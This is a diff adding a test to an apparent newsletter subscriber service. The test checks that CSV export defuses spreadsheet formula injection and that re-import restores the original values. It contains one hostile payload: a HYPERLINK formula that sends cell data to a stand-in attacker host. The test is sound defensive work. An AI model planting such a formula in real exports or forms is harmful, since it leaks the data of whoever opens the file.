@@ -1100,3 +1100,36 @@ def test_cli_refuses_a_file_that_is_not_utf8_with_exit_code_2(
     result = run_cli(cli_env, "subscribers", "import", str(path), "--json")
     assert result.exit_code == 2
     assert result.stderr.startswith(f"Error: {path}, line 2: not UTF-8")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
+
+
+def test_a_formula_in_a_sign_up_is_exported_as_text_and_imported_back_as_it_was(
+    client: Any, desk: Desk, tmp_path: Path, fresh_database_url: str
+) -> None:
+    """The attack: a stranger signs up with a formula for a name; the editor opens the
+    export in a spreadsheet. Every cell that a spreadsheet would run starts with a quote."""
+    answer = client.post("/api/subscribe", json={"email": "x@example.org", "name": FORMULA,
+                                                 "consent": True, "source": "-2+3"})  # fmt: skip
+    assert answer.status_code == 202
+    with desk.engine.begin() as conn:  # confirmed, so the round trip keeps the reader
+        version = get_policy(conn, "2026-11-01").version
+        conn.execute(db.subscribers.update().values(status="active", policy_version=version))
+        text = export_csv(conn)
+    rows = list(csv.reader(text.splitlines()))
+    [row] = [r for r in rows if r[0] == "x@example.org"]
+    assert row[1] == "'" + FORMULA and row[4] == "'-2+3"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+    editor_copy = tmp_path / "export.csv"
+    editor_copy.write_text(text, encoding="utf-8")
+    other = fresh_desk(desk, fresh_database_url)
+    try:
+        later = datetime.now(UTC) + timedelta(minutes=1)  # the web app stamped the wall clock
+        report = import_csv(other.engine, editor_copy, pending=False, secret=SECRET, now=later)
+        assert not report.problems
+        with other.engine.connect() as conn:
+            back = get_subscriber(conn, "x@example.org")
+        assert (back.name, back.status) == (FORMULA, "active")
+    finally:
+        other.engine.dispose()
